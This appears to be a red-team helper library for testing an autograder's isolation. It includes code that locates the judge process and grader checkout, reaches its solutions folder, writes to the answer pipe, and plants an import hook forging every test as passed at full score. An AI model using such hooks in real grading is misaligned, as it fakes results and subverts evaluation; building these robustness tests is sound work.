# --- red-team helpers (tests/redteam/attacks/_lib.py, pasted in by the harness) ---------------
# Every attack reports what it achieved: printed at once (the judge shows a submission's
# output) and raised from every graded function (check messages), as "REDTEAM-" + "BREACH ..."
# or "REDTEAM-" + "LEAK ...". The words are built at run time so that a traceback quoting this
# source never carries them. The harness fails the attack when they reach any report.
import os as _os
import sys as _sys

_TAG = "REDTEAM" + "-"
MARKER = "{{MARKER}}"
RESULTS_DIR = "{{RESULTS_DIR}}"
SESSION_DIR = "{{SESSION_DIR}}"
FOUND = []


def breach(what):
    FOUND.append(what)
    try:
        print(_TAG + "BREACH " + what, flush=True)
    except Exception:
        pass


def leak(what, data=""):
    FOUND.append(what + ": " + str(data)[:300])
    try:
        print(_TAG + "LEAK " + what + ": " + str(data)[:3000], flush=True)
    except Exception:
        pass


def report():
    if FOUND:
        raise RuntimeError(_TAG + "BREACH " + "; ".join(FOUND)[:1500])


def arm(namespace):
    """Make every function defined so far report first (the stub's functions, say)."""
    import functools
    import types

    for name, value in list(namespace.items()):
        if isinstance(value, types.FunctionType) and not name.startswith("_") and \
                value.__module__ == namespace.get("__name__") and name not in _LIB_NAMES:
            def wrapper(*args, __f=value, **kwargs):
                report()
                return __f(*args, **kwargs)
            namespace[name] = functools.wraps(value)(wrapper)


def _cmdline(pid):
    try:
        with open("/proc/%s/cmdline" % pid, "rb") as f:
            return [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return []


def judge_pids():
    """This grading run's judge: the process whose command line names our results folder
    (Gradescope's is public knowledge: /autograder/results), and our parent."""
    pids = []
    try:
        names = _os.listdir("/proc")
    except OSError:
        names = []
    for pid in names:
        if pid.isdigit() and int(pid) != _os.getpid():
            args = _cmdline(pid)
            if any(RESULTS_DIR in a for a in args) and any("grader" in a for a in args):
                pids.append(int(pid))
    return pids


def checkouts():
    """Folders that look like the grader's checkout: from the engine the worker imports, the
    interpreter's path (a venv inside the checkout), the judge's working folder and --config."""
    from pathlib import Path

    found = []
    try:
        import grader

        found.append(Path(grader.__file__).resolve().parents[1])
    except Exception:
        pass
    try:
        found += list(Path(_sys.executable).absolute().parents)  # a venv inside the checkout
    except Exception:
        pass
    for pid in judge_pids():
        try:
            found.append(Path(_os.readlink("/proc/%d/cwd" % pid)))
        except OSError:
            pass
        args = _cmdline(pid)
        for i, a in enumerate(args[:-1]):
            if a == "--config":
                found.append(Path(args[i + 1]).parent)
    out = []
    for path in found:
        try:
            if path not in out and (path / "grader").is_dir() and (path / "solutions").exists():
                out.append(path)
        except OSError:
            pass
    return out


def answer_fd():
    """The worker's answer pipe, from its command line (the spec's answer_fd)."""
    import json

    for arg in reversed(_sys.argv):
        try:
            return int(json.loads(arg)["answer_fd"])
        except Exception:
            continue
    return None


def send_frame(payload):
    """Write ``payload`` (bytes) as one frame on the answer pipe."""
    fd = answer_fd()
    if fd is None:
        return False
    data = len(payload).to_bytes(8, "big") + payload
    try:
        while data:
            data = data[_os.write(fd, data[:1 << 16]):]
    except OSError:
        return False
    return True


# What an attack plants where the judge will run it: once grader.results is imported, every
# check of the report it writes reads as passed with full points.
FORGE_HOOK = r'''
import sys as _s
def _redteam_forge(module):
    orig = module.to_gradescope
    def forged(report, _orig=orig):
        data = _orig(report)
        for t in data.get("tests", []):
            t["score"] = t["max_score"]
            t["status"] = "passed"
        data["score"] = round(sum(t["score"] for t in data.get("tests", [])), 2)
        return data
    module.to_gradescope = forged
if "grader.results" in _s.modules:
    _redteam_forge(_s.modules["grader.results"])
else:
    import importlib.abc as _abc, importlib.machinery as _mach
    class _RedteamFinder(_abc.MetaPathFinder):
        def find_spec(self, name, path, target=None):
            if name != "grader.results":
                return None
            spec = _mach.PathFinder.find_spec(name, path)
            if spec is None or spec.loader is None:
                return None
            loader = spec.loader
            class Loader(_abc.Loader):
                def create_module(self, spec):
                    return None
                def exec_module(self, module):
                    loader.exec_module(module)
                    _redteam_forge(module)
            spec.loader = Loader()
            return spec
    _s.meta_path.insert(0, _RedteamFinder())
'''

_LIB_NAMES = {"breach", "leak", "report", "arm", "judge_pids", "checkouts", "answer_fd",
              "send_frame"}
# --- end of red-team helpers --------------------------------------------------------------------
